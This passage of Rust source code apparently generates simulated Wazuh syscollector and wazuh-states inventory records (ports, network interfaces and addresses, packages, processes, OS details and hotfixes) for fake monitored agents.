                m.insert("state".into(), json!(x.state));
            }
            m.insert("inode".into(), json!(x.inode));
            m.insert("rx_queue".into(), json!(0));
            m.insert("protocol".into(), json!(x.protocol));
            m.insert("pid".into(), json!(x.pid));
            m.insert("tx_queue".into(), json!(0));
            m.insert("process".into(), json!(x.process));
            m.insert("agent_id".into(), json!(p.id));
            Value::Object(m)
        })
        .collect()
}

/// `GET /syscollector/{agent_id}/netaddr` items.
pub(crate) fn netaddr_items(p: &Profile) -> Vec<Value> {
    let (mask, bcast) = netmask_of(&p.ip);
    let ipv6 = format!(
        "fe80::{}:{}ff:fe{}:{}",
        &p.mac_tail.get(0..2).unwrap_or("42"),
        &p.mac_tail.get(2..4).unwrap_or("ac"),
        &p.mac_tail.get(4..6).unwrap_or("11"),
        &p.mac_tail.get(0..4).unwrap_or("0002")
    );
    vec![
        json!({"scan": {"id": 0}, "address": p.ip, "iface": iface(p), "netmask": mask, "broadcast": bcast, "proto": "ipv4", "agent_id": p.id}),
        json!({"scan": {"id": 0}, "address": ipv6, "iface": iface(p), "netmask": "ffff:ffff:ffff:ffff::", "proto": "ipv6", "agent_id": p.id}),
    ]
}

/// `GET /syscollector/{agent_id}/netiface` items.
pub(crate) fn netiface_items(seed: u64, p: &Profile, inv: &Inventory) -> Vec<Value> {
    let mut rng = agent_rng(seed, &p.id, "netiface");
    let rxp: u64 = rng.random_range(100_000..90_000_000);
    let txp: u64 = rng.random_range(100_000..60_000_000);
    let mut m = Map::new();
    m.insert("rx".into(), json!({"bytes": rxp * 870, "dropped": rng.random_range(0..40), "errors": 0, "packets": rxp}));
    m.insert("scan".into(), scan(inv));
    m.insert(
        "tx".into(),
        json!({"bytes": txp * 610, "dropped": 0, "errors": 0, "packets": txp}),
    );
    m.insert("type".into(), json!("ethernet"));
    m.insert("name".into(), json!(iface(p)));
    if p.family() == Family::Windows {
        m.insert("adapter".into(), json!("vmxnet3 Ethernet Adapter"));
    }
    m.insert("mtu".into(), json!(1500));
    m.insert("state".into(), json!("up"));
    m.insert("mac".into(), json!(mac(p)));
    m.insert("agent_id".into(), json!(p.id));
    vec![Value::Object(m)]
}

/// `GET /syscollector/{agent_id}/netproto` items.
pub(crate) fn netproto_items(p: &Profile) -> Vec<Value> {
    let dhcp = if p.role.is_server() {
        "disabled"
    } else {
        "enabled"
    };
    vec![
        json!({"scan": {"id": 0}, "gateway": gateway_of(&p.ip), "dhcp": dhcp, "iface": iface(p), "type": "ipv4", "agent_id": p.id}),
    ]
}

/// `GET /syscollector/{agent_id}/hotfixes` items.
pub(crate) fn hotfix_items(p: &Profile, inv: &Inventory) -> Vec<Value> {
    inv.hotfixes
        .iter()
        .map(|h| json!({"hotfix": h, "scan": scan(inv), "agent_id": p.id}))
        .collect()
}

/// `agent` object of the states indices.
pub(crate) fn state_agent(p: &Profile) -> Value {
    json!({
        "id": p.id,
        "name": p.name,
        "version": format!("v{}", p.version),
        "host": {"architecture": p.os.arch, "ip": p.ip},
    })
}

/// `wazuh` object of the states indices.
pub(crate) fn state_wazuh() -> Value {
    json!({"cluster": {"name": CLUSTER_NAME, "node": NODE_NAME}, "schema": {"version": "1.0"}})
}

/// Document id of a state document.
pub(crate) fn state_id(p: &Profile, key: &str) -> String {
    format!("{}_{}", p.id, hex_of(key, 40))
}

/// `wazuh-states-inventory-packages-*` sources.
pub(crate) fn package_states(p: &Profile, inv: &Inventory) -> Vec<(String, Value)> {
    inv.packages
        .iter()
        .map(|i| {
            let pk = i.pkg;
            let mut pkg = Map::new();
            if !pk.arch.is_empty() {
                pkg.insert("architecture".into(), json!(pk.arch));
            }
            if p.os.format == PkgFormat::Deb || p.os.format == PkgFormat::Rpm {
                pkg.insert("category".into(), json!(pk.section));
                pkg.insert("description".into(), json!(pk.description));
            }
            if p.os.format != PkgFormat::Deb {
                pkg.insert("installed".into(), json!(iso(i.install_time)));
            }
            if p.os.format == PkgFormat::Deb && pk.section == "libs" {
                pkg.insert("multiarch".into(), json!("same"));
            }
            pkg.insert("name".into(), json!(i.name));
            if matches!(p.os.format, PkgFormat::Win | PkgFormat::Pkg) && !pk.section.is_empty() {
                pkg.insert("path".into(), json!(pk.section));
            }
            if p.os.format == PkgFormat::Deb {
                pkg.insert("priority".into(), json!("optional"));
            }
            if pk.size > 0 {
                let bytes = if p.os.format == PkgFormat::Deb {
                    pk.size * 1024
                } else {
                    pk.size
                };
                pkg.insert("size".into(), json!(bytes));
            }
            if !pk.source.is_empty() {
                pkg.insert("source".into(), json!(pk.source));
            }
            pkg.insert("type".into(), json!(p.os.format.as_str()));
            if !pk.vendor.is_empty() {
                pkg.insert("vendor".into(), json!(pk.vendor));
            }
            pkg.insert("version".into(), json!(i.version));
            let id = state_id(p, &format!("pkg:{}:{}", i.name, i.version));
            (
                id,
                json!({"agent": state_agent(p), "package": pkg, "wazuh": state_wazuh()}),
            )
        })
        .collect()
}

/// `wazuh-states-inventory-processes-*` sources.
pub(crate) fn process_states(p: &Profile, inv: &Inventory) -> Vec<(String, Value)> {
    inv.processes
        .iter()
        .map(|x| {
            let args: Vec<&str> = x.cmd.split_whitespace().skip(1).collect();
            let mut proc_ = Map::new();
            proc_.insert("args".into(), json!(args));
            proc_.insert("args_count".into(), json!(args.len()));
            proc_.insert("command_line".into(), json!(x.cmd));
            proc_.insert("name".into(), json!(x.name));
            proc_.insert("parent".into(), json!({"pid": x.ppid}));
            proc_.insert("pid".into(), json!(x.pid));
            proc_.insert("start".into(), json!(iso(x.start)));
            if p.family() != Family::Windows {
                proc_.insert("state".into(), json!(x.state));
            }
            proc_.insert("stime".into(), json!(x.stime));
            proc_.insert("utime".into(), json!(x.utime));
            let id = state_id(p, &format!("proc:{}:{}", x.pid, x.name));
            (
                id,
                json!({"agent": state_agent(p), "process": proc_, "wazuh": state_wazuh()}),
            )
        })
        .collect()
}

/// `wazuh-states-inventory-ports-*` sources.
pub(crate) fn port_states(p: &Profile, inv: &Inventory) -> Vec<(String, Value)> {
    inv.ports
        .iter()
        .map(|x| {
            let mut m = Map::new();
            m.insert("agent".into(), state_agent(p));
            m.insert(
                "destination".into(),
                json!({"ip": x.remote_ip, "port": x.remote_port}),
            );
            m.insert("file".into(), json!({"inode": x.inode.to_string()}));
            m.insert(
                "host".into(),
                json!({"network": {"egress": {"queue": 0}, "ingress": {"queue": 0}}}),
            );
            if !x.state.is_empty() {
                m.insert("interface".into(), json!({"state": x.state}));
            }
            m.insert("network".into(), json!({"transport": x.protocol}));
            m.insert("process".into(), json!({"name": x.process, "pid": x.pid}));
            m.insert(
                "source".into(),
                json!({"ip": x.local_ip, "port": x.local_port}),
            );
            m.insert("wazuh".into(), state_wazuh());
            let id = state_id(
                p,
                &format!(
                    "port:{}:{}:{}:{}",
                    x.protocol, x.local_ip, x.local_port, x.inode
                ),
            );
            (id, Value::Object(m))
        })
        .collect()
}

/// `wazuh-states-inventory-system-*` source.
pub(crate) fn system_state(p: &Profile) -> (String, Value) {
    let os = p.os;
    let mut o = Map::new();
    if !os.build.is_empty() {
        o.insert("build".into(), json!(os.build));
    }
    if !os.codename.is_empty() {
        o.insert("codename".into(), json!(os.codename));
    }
    if !os.display_version.is_empty() {
        o.insert(
            "distribution".into(),
            json!({"release": os.display_version}),
        );
    }
    let full = match p.family() {
        Family::Windows => os.name.to_string(),
        _ => format!("{} {}", os.name, os.version),
    };
    o.insert("full".into(), json!(full));
    if p.family() != Family::Windows {
        o.insert(
            "kernel".into(),
            json!({"name": if p.family() == Family::Macos { "Darwin" } else { "Linux" }, "release": os.release, "version": os.kernel_version}),
        );
    }
    o.insert("major".into(), json!(os.major));
    if !os.minor.is_empty() {
        o.insert("minor".into(), json!(os.minor));
    }
    o.insert("name".into(), json!(os.name));
    o.insert("platform".into(), json!(os.platform));
    let ty = match p.family() {
        Family::Linux => "linux",
        Family::Windows => "windows",
        Family::Macos => "macos",
    };
    o.insert("type".into(), json!(ty));
    o.insert("version".into(), json!(os.version));
    let doc = json!({
        "agent": state_agent(p),
        "host": {"architecture": os.arch, "hostname": p.name, "os": o},
        "wazuh": state_wazuh(),
    });
    (state_id(p, "system"), doc)
}

/// `wazuh-states-inventory-hotfixes-*` sources.
pub(crate) fn hotfix_states(p: &Profile, inv: &Inventory) -> Vec<(String, Value)> {
    inv.hotfixes
        .iter()
        .map(|h| {
            let doc = json!({"agent": state_agent(p), "package": {"hotfix": {"name": h}}, "wazuh": state_wazuh()});
            (state_id(p, &format!("hotfix:{h}")), doc)
        })
        .collect()
}
